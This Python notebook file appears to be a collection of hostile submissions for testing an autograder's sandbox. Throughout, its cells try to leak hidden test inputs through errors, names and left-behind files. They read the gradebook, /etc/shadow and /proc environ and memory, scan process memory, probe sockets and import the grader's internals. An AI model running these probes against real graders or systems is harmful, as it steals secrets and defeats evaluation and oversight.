# ruff: noqa
# Reading what is not theirs, and carrying away what they were called with.

# %% keep, then print, display and return
def shout(text):
    KEPT.append(text)
    print(KEPT)
    display(KEPT)
    return str(KEPT)

def total(xs):
    KEPT.append(list(xs))
    return str(KEPT)
# later
print(KEPT)
KEPT

# %% keep, then raise, with the name of the exception too
def shout(text):
    KEPT.append(text)
    raise type(str(KEPT)[:90], (ValueError,), {})(KEPT)

def total(xs):
    KEPT.append(list(xs))
    error = KeyError(str(KEPT))
    error.add_note(str(KEPT))
    error.__cause__ = RuntimeError(str(KEPT))
    error.misconception = str(KEPT)
    raise error
# later
raise RuntimeError(KEPT)

# %% keep, then rename what the test quotes
def shout(text):
    KEPT.append(text)
    shout.__name__ = shout.__qualname__ = str(KEPT)
    return Named()

class Named:
    def __repr__(self): return str(KEPT)
    __str__ = __repr__

def total(xs):
    KEPT.append(list(xs))
    Named.__name__ = str(KEPT)
    return Named()

# %% keep in the source line that a message quotes
def shout(text):
    import linecache
    KEPT.append(text)
    linecache.cache["<cell 1>"] = (1, None, [f"{KEPT}\n"] * 100, "<cell 1>")
    raise ValueError

# %% keep in files, for whoever comes next
import os
import tempfile

def leave(thing):
    text = repr(thing)
    for place in (".", "..", "../..", tempfile.gettempdir(), "/dev/shm", "/var/tmp", PATHS["course"], os.path.expanduser("~")):
        for name in ("left.txt", ".left", "home2", text[:60].replace("/", "_")):
            try:
                with open(os.path.join(place, name), "a") as file:
                    file.write(text)
            except OSError:
                pass
        try:
            os.makedirs(os.path.join(place, "left", text[:60].replace("/", "_")), exist_ok=True)
        except OSError:
            pass

def shout(text):
    leave(text)
    return "wrong"

def total(xs):
    leave(list(xs))
    return -1

# %% print whatever somebody left
import os
import tempfile

def dump(place, depth=0):
    try:
        names = sorted(os.listdir(place))
    except OSError:
        return
    for name in names[:200]:
        path = os.path.join(place, name)
        print(path)
        if os.path.isdir(path) and depth < 3:
            dump(path, depth + 1)
        elif os.path.isfile(path):
            try:
                print(open(path, errors="replace").read(2000))
            except OSError:
                pass

for place in ("..", "../..", tempfile.gettempdir(), "/dev/shm", "/var/tmp", PATHS["course"], os.path.expanduser("~")):
    dump(place)

# %% read by every way of opening
import io
import mmap
import os

paths = [PATHS["gradebook"], PATHS["other"], PATHS["home"], "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/cmdline"]
for path in paths:
    for way in (
        lambda: open(path).read(),
        lambda: io.FileIO(path).readall(),
        lambda: os.read(os.open(path, os.O_RDONLY), 10_000),
        lambda: os.read(os.open(path, os.O_RDONLY | os.O_NOFOLLOW | getattr(os, "O_DIRECT", 0)), 10_000),
        lambda: np.fromfile(path, dtype="u1").tobytes(),
        lambda: np.memmap(path, mode="r").tobytes(),
        lambda: __import__("sqlite3").connect(path).execute("select * from t").fetchall(),
        lambda: __import__("linecache").getlines(path),
        lambda: get_ipython().run_line_magic("cat", path),
        lambda: get_ipython().run_line_magic("pycat", path),
        lambda: get_ipython().run_line_magic("run", path),
        lambda: get_ipython().run_line_magic("load", path),
        lambda: __import__("subprocess").check_output(["cat", path]),
        lambda: os.sendfile(os.open("out", os.O_CREAT | os.O_WRONLY), os.open(path, os.O_RDONLY), 0, 1000),
    ):
        try:
            print(way())
        except BaseException as error:
            KEPT.append(error)

# %% links to what cannot be opened
import os

for number, path in enumerate([PATHS["gradebook"], PATHS["other"], PATHS["home"]]):
    for make in (os.symlink, os.link, os.rename):
        try:
            make(path, f"link{number}")
            print(open(f"link{number}").read())
        except OSError as error:
            KEPT.append(error)

# %% frames, stack, closures
import inspect
import sys

def look():
    frame = sys._getframe()
    while frame is not None:
        print(frame.f_code.co_consts, frame.f_locals, list(frame.f_globals)[:50])
        frame = frame.f_back

def shout(text):
    look()
    print(inspect.stack())
    raise ValueError([str(f.frame.f_locals) for f in inspect.stack()])
# later
look()

# %% every object in memory
import gc

def found():
    texts = []
    for thing in gc.get_objects():
        try:
            if isinstance(thing, dict):
                texts += [v for v in thing.values() if isinstance(v, str) and "HIDDEN" + " TESTS" in v]
        except Exception:
            pass
    return texts

print(found())
# later
print(found())

# %% raw memory of this process
import ctypes

try:
    for line in open("/proc/self/maps"):
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        print(line, ctypes.string_at(start, min(end - start, 10**6)).find(b"HIDDEN" + b" TESTS"))
except OSError as error:
    print(error)
text = ctypes.string_at(id(KEPT), 100)

# %% memory of the others
import os

for pid in {os.getppid(), 1, *range(max(1, os.getpid() - 50), os.getpid())}:
    for name in ("mem", "environ", "cmdline", "fd/0", "maps", "stack", "status"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read(1000))
        except OSError:
            pass

# %% history and other cells of the notebook
shell = get_ipython()
print(In, Out, _ih, _oh, _dh)
for magic, line in (("history", "-g HIDDEN"), ("hist", ""), ("recall", ""), ("who", ""), ("env", "")):
    try:
        shell.run_line_magic(magic, line)
    except Exception as error:
        print(error)
print(shell.history_manager.hist_file, list(shell.history_manager.get_tail(100)))

# %% the network
import socket
import urllib.request

for make in (
    lambda: socket.create_connection(("127.0.0.1", 22), 0.2),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53)),
    lambda: socket.socket(socket.AF_UNIX).connect("\0x"),
    lambda: socket.socket(16, 3),
    lambda: socket.getaddrinfo("example.org", 80),
    lambda: urllib.request.urlopen("http://127.0.0.1:1", timeout=0.2),
):
    try:
        print("OPEN", make())
    except BaseException as error:
        KEPT.append(error)

# %% the library that a lesson withholds, by other roads
import importlib.util
import pkgutil

for name in ("autograder.referee.referee", "autograder.worker.main", "nbgrader.api", "tests.hostile.lesson"):
    try:
        module = importlib.import_module(name)
        print(open(module.__file__).read())
    except BaseException as error:
        KEPT.append(error)

# %% a callback that is kept for later
held = []

def total(xs):
    held.append(xs)
    return -1
# later
print([list(xs) for xs in held])

# %% keep in the name of a function that a hidden test calls
def maker(text):
    def inner(): raise ValueError
    inner.__name__ = inner.__qualname__ = text
    return inner

# %% keep in the name of a function that does not come back
def maker(text):
    def inner():
        while True:
            pass
    inner.__name__ = inner.__qualname__ = text
    return inner

# %% keep in the name of an object that is no plain data
def maker(text):
    kind = type(text, (), {"__call__": lambda self: self})
    return kind()

# %% keep in an attribute that is asked for
class Curious:
    def __getattr__(self, name):
        print(name)
        raise AttributeError(str(KEPT))
    def __call__(self): raise TypeError(str(KEPT))

def maker(text):
    KEPT.append(text)
    return Curious()

# %% keep in the kind of what is returned and raised
def maker(text):
    kind = type(text, (Exception,), {"__module__": "builtins"})
    raise kind(text)

# %% keep in what the shell is called by
def shout(text):
    import sys

    get_ipython().user_ns[text] = text
    sys.modules[text] = sys
    globals()[text] = text
    KEPT.append(text)
    return globals()[text]
# later
print([name for name in globals() if "canary" in name], KEPT)
whos = get_ipython().run_line_magic("whos", "")

# %% keep in a figure, for the shown notebook
import matplotlib.pyplot as plt

def shout(text):
    KEPT.append(text)
    plt.figure(label=text).suptitle(text)
    plt.plot([1, 2], label=text)
    return "wrong"
# later
plt.gcf().get_suptitle(), plt.get_fignums(), KEPT

# %% keep in locks on files that everybody may read
import fcntl
import os

def shout(text):
    with open(os.__file__) as file:
        try:
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError as error:
            KEPT.append(error)
    return "wrong"

# %% keep in the docstring, the annotations, the code
def shout(text):
    shout.__doc__ = text
    shout.__annotations__[text] = text
    shout.__dict__[text] = text
    shout.__code__ = shout.__code__.replace(co_name=text[:100], co_filename=text)
    raise ValueError
# later
print(shout.__doc__, shout.__code__.co_name)
